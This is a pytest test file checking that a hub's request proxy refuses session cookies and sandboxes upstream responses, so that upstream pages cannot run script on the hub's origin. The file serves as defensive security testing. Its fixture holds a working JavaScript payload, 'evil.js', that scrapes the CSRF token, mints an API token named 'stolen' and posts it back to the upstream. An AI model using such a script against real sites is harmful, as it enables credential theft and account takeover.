"""Upstream content never runs on the hub's origin (docs/security.md, "The request proxy and
the browser").

An integration's upstream can answer anything, HTML with scripts included. Served by the proxy,
that answer comes from the hub's own origin, so a script in it could read the hub's pages and
call the hub's API with whatever the browser sends along. Two rules keep it out:

- both doors of the proxy (``POST .../request`` and ``.../request/<path>``) take API tokens
  only: a browser session cookie is refused (401 ``api_token_required``) before anything is
  sent upstream;
- every answer of the proxy carries ``Content-Security-Policy: sandbox; default-src 'none'``
  and ``X-Content-Type-Options: nosniff``, so even a page opened with a token runs nothing.

The browser tests use headless Chromium against the hub served over HTTP; the upstream is the
recording server of tests/support/upstream.py. Its page loads a script through the proxy that
reads the CSRF token from ``/``, creates an API token and posts it back through the proxy to
the upstream: all with synchronous requests, so once the page has loaded the script has
either done everything or nothing.
"""

from __future__ import annotations

import pytest
from sqlalchemy import func, select

from integration_hub.db.models import ApiToken
from tests import factories
from tests.support import browser

USERNAME = "ada"
PASSWORD = "correct horse battery staple"
SANDBOX = "sandbox; default-src 'none'"
PAGE_TITLE = "Upstream page"

PAGE = f"""<!doctype html>
<html><head><title>{PAGE_TITLE}</title><script src="evil.js"></script></head>
<body><p>An upstream's page.</p></body></html>"""

# Runs only if the browser lets it: steals a new API token and sends it to the upstream.
SCRIPT = """
document.title = "script ran";
function send(method, url, body, headers) {
  var x = new XMLHttpRequest();
  x.open(method, url, false);
  for (var name in headers || {}) { x.setRequestHeader(name, headers[name]); }
  x.send(body);
  return x.responseText;
}
var found = /name="csrf_token" value="([^"]+)"/.exec(send("GET", "/"));
var csrf = found ? found[1] : "";
var issued = send("POST", "/api/tokens", JSON.stringify({name: "stolen"}),
                  {"Content-Type": "application/json", "X-CSRF-Token": csrf});
send("POST", "collect", issued, {"Content-Type": "text/plain", "X-CSRF-Token": csrf});
"""


@pytest.fixture
def ada(session):
    """A tenant administrator who signs in with a password (a browser session)."""
    factories.user(session, USERNAME, password=PASSWORD, superuser=True, display_name="Ada")
    session.commit()
    return USERNAME


@pytest.fixture
def hostile(make_integration, upstream, ada):
    """An integration whose upstream answers an HTML page with a script (and the script)."""
    integration_id = make_integration("Hostile", auth_type="none", api_base_uri=upstream.url,
                                      shares={ada: 1})
    upstream.respond("/page", {"headers": [("Content-Type", "text/html; charset=utf-8")],
                               "body": PAGE}, sticky=True)
    upstream.respond("/evil.js", {"headers": [("Content-Type", "text/javascript")],
                                  "body": SCRIPT}, sticky=True)
    return integration_id


def stolen_tokens(session) -> int:
    """API tokens the upstream's script created."""
    session.commit()  # a fresh snapshot
    return session.scalar(select(func.count()).select_from(ApiToken)
                          .where(ApiToken.name == "stolen")) or 0


def signed_in(client):
    """Sign in at POST /api/login; answers the session's CSRF token."""
    answer = client.post("/api/login", json={"username": USERNAME, "password": PASSWORD})
    assert answer.status_code == 200, answer.get_data(as_text=True)
    return answer.get_json()["csrfToken"]


def assert_needs_a_token(answer):
    assert answer.status_code == 401, answer.get_data(as_text=True)
    assert answer.mimetype == "application/problem+json"
    body = answer.get_json()
    assert body["code"] == "api_token_required"
    assert "session" in body["detail"] and "Bearer" in body["detail"]
    assert answer.headers["WWW-Authenticate"].startswith("Bearer")


# -- the API: a session cookie is refused at both doors ------------------------------------------

def test_a_session_cookie_opens_neither_door(client, upstream, hostile):
    csrf = signed_in(client)
    base = f"/api/integrations/{hostile}/request"

    assert_needs_a_token(client.get(f"{base}/page"))
    head = client.head(f"{base}/page")
    assert head.status_code == 401 and head.headers["WWW-Authenticate"].startswith("Bearer")
    assert_needs_a_token(client.post(f"{base}/collect", data=b"x",
                                     headers={"X-CSRF-Token": csrf}))
    assert_needs_a_token(client.post(base, json={"url": "page"}, headers={"X-CSRF-Token": csrf}))
    assert_needs_a_token(client.post(base, json={"url": "page", "envelope": True},
                                     headers={"X-CSRF-Token": csrf}))
    assert upstream.requests() == []

    # The session itself still works for the hub's own API.
    assert client.get("/api/me").status_code == 200


def test_a_token_opens_the_proxy_also_next_to_a_session_cookie(client, upstream, hostile,
                                                                 make_caller):
    signed_in(client)
    token = make_caller("bob", superuser=True)
    answer = client.get(f"/api/integrations/{hostile}/request/page", headers=token.headers)
    assert answer.status_code == 200
    assert [r.path for r in upstream.requests()] == ["/page"]


def test_without_credentials_the_proxy_answers_as_before(client, upstream, hostile):
    answer = client.get(f"/api/integrations/{hostile}/request/page")
    assert answer.status_code == 401 and answer.get_json()["code"] == "authentication_required"
    assert upstream.requests() == []


# -- every answer of the proxy is sandboxed -------------------------------------------------------

def assert_sandboxed(answer):
    assert answer.headers.getlist("Content-Security-Policy") == [SANDBOX]
    assert answer.headers.getlist("X-Content-Type-Options") == ["nosniff"]


def test_every_proxied_answer_is_sandboxed(client, upstream, hostile, make_caller):
    caller = make_caller("bob", superuser=True)
    base = f"/api/integrations/{hostile}/request"
    # The upstream's own policy (a lax one here) does not replace the hub's.
    upstream.respond("/lax", {"headers": [("Content-Type", "text/html"),
                                          ("Content-Security-Policy", "script-src *"),
                                          ("X-Content-Type-Options", "sniff-away")],
                              "body": PAGE}, sticky=True)

    for answer in (client.get(f"{base}/page", headers=caller.headers),
                   client.get(f"{base}/lax", headers=caller.headers),
                   client.head(f"{base}/page", headers=caller.headers),
                   client.post(base, json={"url": "lax"}, headers=caller.headers),
                   client.post(base, json={"url": "page", "envelope": True},
                               headers=caller.headers)):
        assert answer.status_code == 200, answer.get_data(as_text=True)
        assert_sandboxed(answer)
    assert client.get(f"{base}/page", headers=caller.headers).get_data(as_text=True) == PAGE

    # The proxy's own refusals are sandboxed too: they answer at the same addresses.
    refused = client.post(base, json={"url": "https://elsewhere.example/x"},
                          headers=caller.headers)
    assert refused.status_code == 400
    assert_sandboxed(refused)


def test_the_hub_s_own_pages_keep_their_policy(client, hostile, ada):
    signed_in(client)
    start = client.get("/")
    assert start.status_code == 200
    assert "script-src 'self'" in start.headers["Content-Security-Policy"]
    assert "sandbox" not in start.headers["Content-Security-Policy"]


# -- in a real browser ----------------------------------------------------------------------------

def sign_in(page, base: str) -> None:
    browser.sign_in(page, base, USERNAME, PASSWORD)


def test_a_signed_in_browser_runs_no_upstream_script(page, live_hub, upstream, hostile, session):
    sign_in(page, live_hub)

    answer = page.goto(f"{live_hub}/api/integrations/{hostile}/request/page",
                       wait_until="load")

    assert answer.status == 401
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert page.title() != "script ran"
    assert upstream.requests() == []  # neither the page, nor its script, nor the stolen token
    assert stolen_tokens(session) == 0
    # The session is fine for the hub's own pages.
    assert page.goto(f"{live_hub}/").status == 200


def test_a_proxied_page_opened_with_a_token_runs_nothing(browser, live_hub, upstream, hostile,
                                                         make_caller, session):
    caller = make_caller("bob", superuser=True)
    context = browser.new_context(extra_http_headers=caller.headers)
    try:
        page = context.new_page()
        answer = page.goto(f"{live_hub}/api/integrations/{hostile}/request/page",
                           wait_until="load")

        assert answer.status == 200
        assert answer.headers["content-security-policy"] == SANDBOX
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert page.title() == PAGE_TITLE
    finally:
        context.close()
    assert [r.path for r in upstream.requests()] == ["/page"]  # the script was not even loaded
    assert stolen_tokens(session) == 0


def test_the_api_description_says_the_doors_take_tokens_only(client):
    paths = client.get("/api/openapi.json").get_json()["paths"]
    doors = {"/api/integrations/{integration_id}/request": ["post"],
             "/api/integrations/{integration_id}/request/{target}": [
                 "get", "head", "post", "put", "patch", "delete"]}
    for path, methods in doors.items():
        for method in methods:
            assert paths[path][method]["security"] == [{"bearerAuth": []}], (path, method)
